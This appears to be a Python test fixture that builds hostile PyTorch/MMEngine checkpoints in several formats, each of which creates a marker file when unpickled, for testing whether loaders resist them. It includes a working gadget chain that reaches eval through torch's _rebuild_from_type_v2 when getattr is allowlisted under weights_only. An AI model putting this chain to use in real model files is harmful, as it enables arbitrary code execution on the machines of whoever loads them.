"""Checkpoints that create a file when they are unpickled: what the doors are tried with."""

import io
import pickle
import tarfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2 as rebuild


class Call:
    """Is pickled as a call: unpickling it gives ``function(*arguments)``.

    The function may be a call, too, whose result is called then.
    """

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __call__(self) -> None:
        """Pickle asks that a function can be called."""

    def __reduce__(self) -> tuple:
        return self.function, self.arguments


def plain(marker: Path) -> Call:
    """What any pickle can do: call a function by its name."""
    return Call(open, str(marker), 'w')


def through_getattr(marker: Path) -> Call:
    """What ``weights_only=True`` allows once ``getattr`` is on the list of safe functions.

    torch's own list holds ``_rebuild_from_type_v2(function, type, arguments, state)``, which calls
    the function without a look at the list; ``getattr`` leads from it to ``eval``.
    """
    names = Call(getattr, rebuild, '__builtins__')
    built_in, nothing = Call(getattr, getattr, '__class__'), Call(getattr, None, '__class__')
    evaluate = Call(rebuild, Call(getattr, names, '__getitem__'), built_in, ('eval',), None)
    return Call(rebuild, evaluate, nothing, (f'open({str(marker)!r}, "w").close()',), None)


def worst(marker: Path) -> list[Call]:
    """Both: the first for doors with MMEngine's list, the second for those that fall back."""
    return [through_getattr(marker), plain(marker)]


def through_history(marker: Path) -> HistoryBuffer:
    """A log whose statistics are calls."""
    history = HistoryBuffer([1.0], [1])
    history._statistics_methods = {'mean': through_getattr(marker)}
    return history


def through_array(marker: Path) -> np.ndarray:
    """An array of objects, one of them a call."""
    return np.array([plain(marker), None], dtype=object)


CONTENTS: dict[str, Callable[[Path], Any]] = {
    'plain': plain,
    'getattr': through_getattr,
    'both': worst,
    'history': through_history,
    'array': through_array,
}


def as_tar(content: Any, path: Path) -> None:
    """As torch saved before 0.1.10; each member is a pickle."""
    with tarfile.open(path, 'w') as tar:
        for name in ('sys_info', 'pickle', 'storages', 'tensors'):
            data = pickle.dumps(content, protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))


FORMATS: dict[str, Callable[[Any, Path], None]] = {
    'zip': torch.save,  # since 1.6
    'legacy': partial(torch.save, _use_new_zipfile_serialization=False),
    'pickle': lambda content, path: path.write_bytes(pickle.dumps(content, protocol=2)),  # torch's
    'new pickle': lambda content, path: path.write_bytes(pickle.dumps(content, protocol=5)),
    'tar': as_tar,
}


def hostile_checkpoint(path: Path, marker: Path, state: dict | None = None,
                       form: str = 'zip', content: str = 'both') -> Path:  # fmt: skip
    """A checkpoint with the weights ``state`` that is whole but for what its ``meta`` does."""
    meta = dict(epoch=1, iter=1, hostile=CONTENTS[content](marker))
    FORMATS[form](dict(meta=meta, state_dict=state or {}), path)
    return path
